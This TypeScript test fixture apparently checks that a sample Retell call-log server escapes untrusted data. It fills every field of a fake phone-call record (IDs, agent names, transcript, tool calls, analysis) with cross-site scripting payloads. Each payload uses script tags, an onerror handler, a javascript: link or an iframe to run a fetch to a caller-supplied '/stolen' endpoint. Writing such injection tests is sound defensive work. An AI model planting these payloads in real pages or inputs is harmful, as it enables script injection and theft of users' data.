import type { SampleRetell } from '../../../src-sample/server.ts';

type AddedCall = Parameters<SampleRetell['addCall']>[0];

/** A call with code in every text that Retell allows; each text starts with the name of its field. */
export function hostileCall(stealTo: string): AddedCall {
  const steal = `window.hacked=1;fetch('${stealTo}/stolen')`;
  const code = (place: string): string =>
    `${place}<img src=x onerror="${steal}"><script>${steal}</script><a href="javascript:${steal}">x</a><iframe srcdoc="<script>alert(1)</script>"></iframe>`;
  const words = [{ word: code('word'), start: 0.2, end: 0.9 }];
  const now = Date.now();
  return {
    call: {
      call_id: `call_${code('id')}`,
      call_type: 'phone_call',
      call_status: 'ended',
      agent_id: code('agent-id'),
      agent_name: code('agent'),
      agent_version: 1,
      direction: 'inbound',
      from_number: code('number'),
      to_number: '+13035550117',
      start_timestamp: now,
      end_timestamp: now + 4000,
      duration_ms: 4000,
      disconnection_reason: code('reason'),
      metadata: { [code('key')]: code('metadata') },
      retell_llm_dynamic_variables: { name: code('variable') },
      transcript_with_tool_calls: [
        { role: 'agent', content: code('word'), words },
        {
          role: 'tool_call_invocation',
          tool_call_id: 't1',
          name: code('tool-name'),
          arguments: JSON.stringify({ text: code('argument') }),
        },
        { role: 'tool_call_result', tool_call_id: 't1', content: code('result') },
        { role: code('role'), content: code('unknown') },
      ],
      call_analysis: {
        user_sentiment: code('sentiment'),
        call_summary: code('summary'),
        custom_analysis_data: { verdict: code('analysis') },
      },
      something_new: { deep: [code('new')] },
    },
  };
}
